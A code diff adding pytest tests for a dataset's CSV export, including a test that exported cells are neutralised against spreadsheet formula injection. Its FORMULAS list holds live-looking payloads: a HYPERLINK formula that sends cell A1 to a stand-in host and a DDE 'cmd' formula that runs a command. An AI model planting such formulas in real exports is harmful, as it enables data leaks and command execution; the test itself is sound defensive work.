@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 from datetime import timedelta
 from pathlib import Path
@@ -11,7 +12,7 @@ from publishing import NOON, Commit, make_article, publish
 
 from clean.dataset import DataSet, DataSetError
 from clean.dataset.diff import differences
-from clean.dataset.export import json_lines, to_delta
+from clean.dataset.export import FORMULA, csv_lines, json_lines, to_delta
 
 
 @pytest.fixture
@@ -65,6 +66,47 @@ def test_json_lines(data: DataSet, commit: Commit) -> None:
     assert rows["a1:0004"]["published_date"] == "2026-05-05"
     assert rows["a1:0004"]["first_seen"] == "2026-11-21T12:00:00+00:00"
     assert rows["a1:0004"]["title"] == "Tin 4"
+
+
+FORMULAS = (
+    '=HYPERLINK("http://a.example/?"&A1,"more")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "\r=1",
+    "＝1＋1",
+)
+"""Texts that a spreadsheet runs."""
+
+
+def test_csv_holds_every_cell(data: DataSet, commit: Commit) -> None:
+    title = 'Two "lines",\nand; a comma'
+    commit([make_article(1, title=title, reporters=("P. Le", "Q. Tri"), paywalled=False)])
+    (row,) = read_csv("".join(csv_lines("articles", data.pieces("articles"))))
+    assert row["title"] == title
+    assert json.loads(row["reporters"]) == ["P. Le", "Q. Tri"]
+    assert (row["paywalled"], row["views"], row["tags"]) == ("false", "", "")
+    assert row["first_seen"] == "2026-11-21T12:00:00+00:00"
+    assert row["published_date"] == "2026-02-02"
+    assert list(row) == next(data.pieces("articles")).schema.names
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_cell_of_csv_is_a_formula(formula: str, data: DataSet, commit: Commit) -> None:
+    article = make_article(1, title=formula, section=formula, reporters=(formula,), tags=(formula, "a"))
+    commit([article])
+    (row,) = read_csv("".join(csv_lines("articles", data.pieces("articles"))))
+    assert (row["title"], row["section"]) == (f"'{formula}", f"'{formula}")
+    assert json.loads(row["tags"]) == [formula, "a"]
+    assert not [name for name, cell in row.items() if cell.startswith(FORMULA)]
+    (raw,) = read_csv("".join(csv_lines("articles", data.pieces("articles"), guard=False)))
+    assert raw["title"] == formula
+
+
+def read_csv(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(text.splitlines(keepends=True)))
 
 
 @pytest.mark.parametrize("table", ["articles", "versions"])
